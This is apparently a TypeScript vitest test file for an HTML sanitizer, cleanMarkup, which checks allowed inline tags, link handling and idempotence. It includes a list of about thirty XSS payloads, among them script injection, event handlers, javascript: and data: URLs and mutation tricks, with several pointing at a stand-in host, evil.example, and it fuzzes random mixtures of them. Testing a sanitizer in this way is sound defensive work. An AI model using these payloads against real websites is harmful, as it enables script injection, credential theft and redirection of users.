import fc from 'fast-check'
import { expect, test } from 'vitest'
import { cleanMarkup } from './markup.ts'

test('what an author may write stays as written', () => {
  const fine =
    'A <strong>strong</strong>, <em>fine</em> <b>b</b> <i>i</i> <q>word</q><br />H<sub>2</sub>O <sup>1</sup> <cite>Ps 23</cite>'
  expect(cleanMarkup(fine)).toBe(fine)
})

test('paragraphs keep their line breaks, whatever system they come from', () => {
  expect(cleanMarkup(' One\r\nTwo\rThree\n')).toBe('One\nTwo\nThree')
})

test('a link of ours is plain, a foreign one gives no credit', () => {
  expect(cleanMarkup('<a href="/blogs" target="_blank">a</a>')).toBe('<a href="/blogs">a</a>')
  expect(cleanMarkup('<a href="https://example.org/?a=1&b=2">a</a>')).toBe(
    '<a href="https://example.org/?a=1&amp;b=2" rel="noopener nofollow">a</a>',
  )
  for (const disguised of ['//evil.example/x', '/\\evil.example/x', '/\t/evil.example/x']) {
    expect(cleanMarkup(`<a href="${disguised}">a</a>`)).toBe('<a>a</a>')
  }
})

const hostile = [
  '<script>alert(1)</script>',
  '<scr<script>ipt>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<img src=x onerror=alert(1)>',
  '<svg/onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<math><mi//xlink:href="data:x,<script>alert(1)</script>">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href=" \u0001javascript:alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="/x" onclick="alert(1)" style="position:fixed" class="x" id="root">x</a>',
  '<a href="/x" rel="opener" target="_top" ping="//evil.example">x</a>',
  '<b onmouseover=alert(1)>x</b>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<style>*{background:url(//evil.example)}</style>',
  '<form action="//evil.example"><input name=password></form>',
  '<base href="//evil.example/">',
  '<meta http-equiv=refresh content="0;url=//evil.example">',
  '<!--><script>alert(1)</script>-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<noscript><p title="</noscript><script>alert(1)</script>">',
  '<textarea></textarea><script>alert(1)</script>',
  '<template><script>alert(1)</script></template>',
  '<b <script>alert(1)</script>',
  '"><script>alert(1)</script>',
  "<a href='/x' title='\"><script>alert(1)</script>'>x</a>",
]

test.each(hostile)('nothing that could run is left of %s', (markup) => expectHarmless(cleanMarkup(markup)))

test('nothing that could run is left of any mixture of markup', () => {
  const pieces = fc.constantFrom(
    ...hostile,
    ...[
      '<a href="',
      '<b ',
      '">',
      "'",
      '<',
      '>',
      '</a>',
      '<script',
      '</script>',
      'javascript:',
      'onclick=',
      'x',
    ],
    ...['&lt;script&gt;', '&#60;', '&quot;', '\u0000', '\n', '/', '<!--', '-->'],
  )
  fc.assert(
    fc.property(fc.array(pieces, { maxLength: 8 }), (mixture) =>
      expectHarmless(cleanMarkup(mixture.join(''))),
    ),
    { numRuns: 500 },
  )
})

test('cleaning what is clean changes nothing', () => {
  fc.assert(
    fc.property(
      fc.array(fc.constantFrom(...hostile, 'a & b', '<b>x', '&amp;lt;'), { maxLength: 5 }),
      (mixture) => {
        const once = cleanMarkup(mixture.join(' '))
        expect(cleanMarkup(once)).toBe(once)
      },
    ),
  )
})

/** Every tag is one of the allowed, with no attribute but a link's safe address; all else is text. */
function expectHarmless(clean: string) {
  const allowed =
    /^<(?:\/?(?:b|strong|i|em|q|cite|sub|sup)|br \/|\/a|a(?: href="[^"<>]*")?(?: rel="noopener nofollow")?)>$/
  for (const [tag] of clean.matchAll(/<[^>]*>?/g)) expect(tag).toMatch(allowed)
  expect(clean.replace(/<[^>]*>/g, '')).not.toMatch(/[<>]/)
  for (const [, href = ''] of clean.matchAll(/href="([^"]*)"/g)) {
    expect(['http:', 'https:', 'mailto:', 'tel:']).toContain(protocolOf(href))
  }
}

/** The protocol that a browser would use for the address as it stands in the markup. */
function protocolOf(href: string) {
  const address = href
    .replaceAll('&quot;', '"')
    .replaceAll('&lt;', '<')
    .replaceAll('&gt;', '>')
    .replaceAll('&amp;', '&')
  return URL.canParse(address, 'https://ours.example')
    ? new URL(address, 'https://ours.example').protocol
    : 'http:'
}
